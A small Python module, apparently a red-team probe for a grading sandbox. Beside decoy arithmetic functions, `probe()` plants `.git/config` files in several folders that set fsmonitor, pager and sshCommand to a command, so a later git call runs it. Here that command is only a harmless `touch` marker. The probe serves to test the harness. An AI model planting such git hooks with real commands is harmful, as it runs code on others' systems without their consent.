"""D11: plants git configuration that runs a command when the worker next runs git here."""

import os

CONFIG = "[core]\n\tfsmonitor = touch /tmp/grader-redteam-pwned-D11\n\tpager = touch /tmp/grader-redteam-pwned-D11\n\tsshCommand = touch /tmp/grader-redteam-pwned-D11\n"


def add(a, b):
    return a + b


def double(n):
    return 2 * n


def _plant(folder):
    try:
        os.makedirs(os.path.join(folder, ".git"), exist_ok=True)
        with open(os.path.join(folder, ".git", "config"), "w") as handle:
            handle.write(CONFIG)
        with open(os.path.join(folder, ".git", "HEAD"), "w") as handle:
            handle.write("ref: refs/heads/main\n")
    except OSError as exc:
        return type(exc).__name__
    return "planted"


def probe():
    return {spot: _plant(spot) for spot in (".", "/work", "/submission", "/tmp")}
